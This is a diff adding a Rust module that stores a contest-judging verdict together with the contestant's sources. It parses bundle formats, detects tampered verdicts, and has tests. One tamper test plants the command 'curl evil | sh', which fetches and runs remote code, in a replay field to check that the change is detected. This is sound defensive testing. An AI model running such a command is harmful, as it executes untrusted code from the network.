@@ -1,0 +1,200 @@
+//! A verdict with all that it rests on, in one file that needs nothing else.
+
+use std::path::Path;
+use std::time::{SystemTime, UNIX_EPOCH};
+use std::{fs, io};
+
+use serde::{Deserialize, Serialize};
+use tribunal_judge::{Contradiction, SourceFile, Verdict};
+
+use crate::json::{self, ReadError};
+use crate::summary::rubric_of;
+
+/// The form of bundle that this version writes and reads.
+pub const FORM: &str = "tribunal.bundle/1";
+
+/// Bytes of source that are kept with a verdict.
+pub const SOURCE_BYTES_MAX: usize = 1 << 20;
+
+/// A verdict, which holds evidence, seed, machine and raw samples; and the source that it speaks of.
+#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
+pub struct Bundle {
+    /// Always `tribunal.bundle/1`.
+    pub schema: String,
+    /// When the verdict was first kept, in milliseconds since 1970; null where nobody knows.
+    #[serde(default)]
+    pub kept_at_ms: Option<u64>,
+    /// The verdict.
+    pub verdict: Verdict,
+    /// The contestant's own source files.
+    #[serde(default)]
+    pub sources: Vec<SourceFile>,
+}
+
+impl Bundle {
+    /// A verdict and its sources, to be kept now.
+    pub fn new(verdict: Verdict, sources: Vec<SourceFile>) -> Self {
+        Self { schema: FORM.to_owned(), kept_at_ms: None, verdict, sources }
+    }
+
+    /// The bundle on one line, without a line break at its end.
+    pub fn line(&self) -> String {
+        #[derive(Serialize)]
+        struct Borrowed<'a> {
+            schema: &'a str,
+            kept_at_ms: Option<u64>,
+            verdict: Verdict,
+            sources: &'a [SourceFile],
+        }
+        let Self { schema, kept_at_ms, verdict, sources } = self;
+        let line = Borrowed { schema, kept_at_ms: *kept_at_ms, verdict: json::finite(verdict), sources };
+        serde_json::to_string(&line).expect("a bundle has string keys only")
+    }
+
+    /// Reads a bundle, or a verdict that stands alone.
+    pub fn read(text: &str) -> Result<Self, ReadError> {
+        #[derive(Deserialize)]
+        struct Forms {
+            schema: String,
+            verdict: Option<Form>,
+        }
+        #[derive(Deserialize)]
+        struct Form {
+            schema: String,
+        }
+        let syntax = |error: serde_json::Error| ReadError::Syntax(error.to_string());
+        // The forms first: whatever else a newer one has, that is the reason to give.
+        match serde_json::from_str(text).map_err(syntax)? {
+            Forms { schema, verdict: Some(verdict) } if schema == FORM => match verdict.schema {
+                form if form == json::FORM => serde_json::from_str(text).map_err(syntax),
+                form => Err(ReadError::Form(form)),
+            },
+            Forms { schema, .. } if schema == FORM => {
+                Err(ReadError::Syntax("a bundle without a verdict".to_owned()))
+            }
+            Forms { schema, .. } if schema == json::FORM => Ok(Self::new(json::read(text)?, Vec::new())),
+            Forms { schema, .. } => Err(ReadError::Form(schema)),
+        }
+    }
+
+    /// Reads a file. A verdict that stands alone was kept when the file was written.
+    pub fn read_file(path: &Path) -> io::Result<Result<Self, ReadError>> {
+        let written_ms = millis(fs::metadata(path)?.modified()?);
+        let text = String::from_utf8(fs::read(path)?).map_err(|error| ReadError::Syntax(error.to_string()));
+        Ok(text.and_then(|text| Self::read(&text)).map(|mut bundle| {
+            bundle.kept_at_ms.get_or_insert(written_ms);
+            bundle
+        }))
+    }
+
+    /// Whether the verdict says what follows from its evidence. The parts of the score are computed again only where
+    /// this program carries the rubric that ruled.
+    pub fn check(&self) -> Result<(), Contradiction> {
+        self.verdict.check(rubric_of(&self.verdict).as_ref())
+    }
+}
+
+/// Parts the files that may be kept from those that would make the store too large, which are named.
+pub fn fitting(sources: Vec<SourceFile>) -> (Vec<SourceFile>, Vec<String>) {
+    let mut left = SOURCE_BYTES_MAX;
+    let (mut kept, mut too_large) = (Vec::new(), Vec::new());
+    for file in sources {
+        match left.checked_sub(file.path.len() + file.text.len()) {
+            Some(rest) => {
+                left = rest;
+                kept.push(file);
+            }
+            None => too_large.push(file.path),
+        }
+    }
+    (kept, too_large)
+}
+
+/// Milliseconds since 1970.
+pub(crate) fn millis(time: SystemTime) -> u64 {
+    time.duration_since(UNIX_EPOCH).map_or(0, |since| since.as_millis() as u64)
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::samples;
+    use tribunal_judge::{Dimension, Outcome, Rubric, Ruling, challenges};
+
+    fn source(path: &str, bytes: usize) -> SourceFile {
+        SourceFile { path: path.to_owned(), text: "x".repeat(bytes) }
+    }
+
+    #[test]
+    fn a_bundle_survives_its_line() {
+        let bundle = Bundle {
+            kept_at_ms: Some(1_700_000_000_000),
+            ..Bundle::new(samples::hostile(), vec![source("a.py", 3)])
+        };
+        let line = bundle.line();
+        assert!(!line.contains('\n'));
+        assert_eq!(Bundle::read(&line), Ok(bundle));
+        let alone = Bundle::read(&json::line(&samples::rejected()));
+        assert_eq!(alone, Ok(Bundle::new(samples::rejected(), vec![])));
+    }
+
+    #[test]
+    fn forms_of_the_future_are_called_that() {
+        let line = Bundle::new(samples::accepted(), vec![]).line();
+        let form = |line: &str| match Bundle::read(line) {
+            Err(ReadError::Form(form)) => form,
+            other => panic!("{other:?}"),
+        };
+        assert_eq!(form(&line.replace("bundle/1", "bundle/2")), "tribunal.bundle/2");
+        assert_eq!(form(&line.replace("verdict/1", "verdict/7")), "tribunal.verdict/7");
+        assert!(matches!(Bundle::read(r#"{"schema": "tribunal.bundle/1"}"#), Err(ReadError::Syntax(_))));
+        assert!(matches!(Bundle::read("[]"), Err(ReadError::Syntax(_))));
+    }
+
+    #[test]
+    fn what_does_not_follow_from_the_evidence_is_named() {
+        let rubric = Rubric::parse(challenges::find("layer_norm_backward").unwrap().rubric()).unwrap();
+        let honest = Verdict::new(samples::rejected().evidence(), &rubric);
+        let read = |verdict: &Verdict| Bundle::read(&Bundle::new(verdict.clone(), vec![]).line()).unwrap();
+        assert_eq!(read(&honest).check(), Ok(()));
+        type Change = fn(&mut Verdict);
+        let changes: [(&str, Change); 8] = [
+            ("id", |v| v.id = "0".repeat(12)),
+            ("id", |v| v.submission.name = "somebody".to_owned()),
+            ("outcome", |v| v.outcome = Ruling::Accepted),
+            ("score", |v| v.score = Some(v.score.unwrap() + 0.01)),
+            ("dimensions.memory.score", |v| {
+                v.dimensions.get_mut(&Dimension::Memory).unwrap().score = Some(100.0);
+            }),
+            ("requirements", |v| v.requirements[0].met = Some(true)),
+            ("dimensions.correctness.score", |v| {
+                v.findings.iter_mut().find(|f| f.suspect.is_some()).unwrap().outcome = Outcome::Pass;
+                v.findings.retain(|f| {
+                    f.severity < tribunal_judge::Severity::Critical || f.outcome == Outcome::Pass
+                });
+            }),
+            ("findings[0].replay", |v| v.findings[0].replay = Some("curl evil | sh".to_owned())),
+        ];
+        for (field, change) in changes {
+            let mut changed = honest.clone();
+            change(&mut changed);
+            assert_eq!(read(&changed).check().unwrap_err().field, field);
+        }
+    }
+
+    #[test]
+    fn under_another_rubric_what_needs_none_is_checked_still() {
+        let bundle = Bundle::new(samples::rejected(), vec![]);
+        assert_eq!(bundle.check(), Ok(()));
+        let changed = Verdict { score: Some(99.0), ..samples::rejected() };
+        assert_eq!(Bundle::new(changed, vec![]).check().unwrap_err().field, "score");
+    }
+
+    #[test]
+    fn sources_are_kept_up_to_a_megabyte() {
+        let files = vec![source("a", 1000), source("huge", SOURCE_BYTES_MAX), source("b", 1000)];
+        let (kept, too_large) = fitting(files);
+        assert_eq!(kept, [source("a", 1000), source("b", 1000)]);
+        assert_eq!(too_large, ["huge"]);
+    }
+}
